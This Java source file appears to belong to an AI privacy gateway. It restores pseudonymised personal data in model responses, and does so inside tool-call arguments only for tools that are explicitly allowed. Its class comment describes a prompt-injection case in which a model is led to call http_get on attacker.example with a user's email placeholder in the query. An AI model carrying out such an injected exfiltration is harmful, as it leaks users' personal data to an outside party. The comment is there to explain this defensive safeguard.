package dev.aims.core;

import dev.aims.api.AiResponse;
import dev.aims.api.Message;
import dev.aims.api.PolicyDecision;
import dev.aims.api.RedactionSession;
import dev.aims.api.Restoration;
import dev.aims.api.ToolCall;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
/**
 * Puts the real values back where the model used this call's pseudonyms: always in the answer's text, but in a
 * tool call's arguments only when the tool is named — by the client ({@code restoreIntoTools}) or by a PRE decision
 * ({@value PolicyDecision#RESTORE_TOOLS_OBLIGATION}). A prompt injection that asks the model to call
 * {@code http_get("https://attacker.example/?q=<EMAIL_ADDRESS_1>")} then sends the placeholder, not the address
 * (OWASP LLM06). Each restoration into a tool is recorded, by type and tool, never by value.
 */
final class Restorer {
    private final RealCall call;
    private final RedactionSession session;
    private final Set<String> tools;

    Restorer(RealCall call, Set<String> restoreIntoTools) {
        this.call = call;
        this.session = call.redaction;
        this.tools = tools(call, restoreIntoTools);
    }

    private static Set<String> tools(RealCall call, Set<String> fromClient) {
        Set<String> tools = fromClient;
        for (PolicyDecision d : call.decisions) {
            String named = d.obligations().get(PolicyDecision.RESTORE_TOOLS_OBLIGATION);
            if (named == null) {
                continue;
            }
            if (tools == fromClient) {
                tools = new HashSet<>(fromClient);
            }
            for (String t : named.split(",")) {
                if (!t.isBlank()) {
                    tools.add(t.trim());
                }
            }
        }
        return tools;
    }

    AiResponse restore(AiResponse response) {
        List<Message> messages = response.messages();
        List<Message> out = null;
        for (int i = 0; i < messages.size(); i++) {
            Message m = messages.get(i);
            Message r = restore(m);
            if (r != m) {
                if (out == null) {
                    out = new ArrayList<>(messages);
                }
                out.set(i, r);
            }
        }
        return out == null ? response : response.toBuilder().messages(out).build();
    }

    private Message restore(Message m) {
        if (m.toolCalls().isEmpty()) {
            return m.mapText(session::restore);
        }
        List<ToolCall> calls = new ArrayList<>(m.toolCalls().size());
        boolean changed = false;
        for (ToolCall c : m.toolCalls()) {
            String name = session.restore(c.name());
            String arguments = c.arguments();
            if (tools.contains(name)) {
                String restored = session.restore(arguments);
                if (restored != arguments) {
                    recordRestorations(arguments, name);
                    arguments = restored;
                }
            }
            if (name != c.name() || arguments != c.arguments()) {
                changed = true;
                calls.add(ToolCall.of(c.id(), name, arguments));
            } else {
                calls.add(c);
            }
        }
        Message text = m.toBuilder().toolCalls(List.of()).build();
        Message restoredText = text.mapText(session::restore);
        if (!changed && restoredText == text) {
            return m;
        }
        return restoredText.toBuilder().toolCalls(calls).build();
    }

    /** Records the type of every pseudonym of this session in {@code arguments}, once per occurrence. */
    private void recordRestorations(String arguments, String tool) {
        int i = arguments.indexOf('<');
        while (i >= 0) {
            int close = arguments.indexOf('>', i + 1);
            if (close < 0) {
                return;
            }
            String candidate = arguments.substring(i, close + 1);
            String type = placeholderType(candidate);
            if (type != null && !session.restore(candidate).equals(candidate)) {
                call.restored(new Restoration(type, tool));
            }
            i = arguments.indexOf('<', i + 1);
        }
    }

    /** @return {@code TYPE} of a {@code <TYPE_n>} placeholder, or null when the text is not one */
    static String placeholderType(String s) {
        int underscore = s.lastIndexOf('_');
        if (s.length() < 5 || s.charAt(0) != '<' || s.charAt(s.length() - 1) != '>' || underscore < 2
                || underscore >= s.length() - 2) {
            return null;
        }
        for (int j = underscore + 1; j < s.length() - 1; j++) {
            if (s.charAt(j) < '0' || s.charAt(j) > '9') {
                return null;
            }
        }
        for (int j = 1; j < underscore; j++) {
            char c = s.charAt(j);
            if (!(c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '_')) {
                return null;
            }
        }
        return s.substring(1, underscore);
    }
}
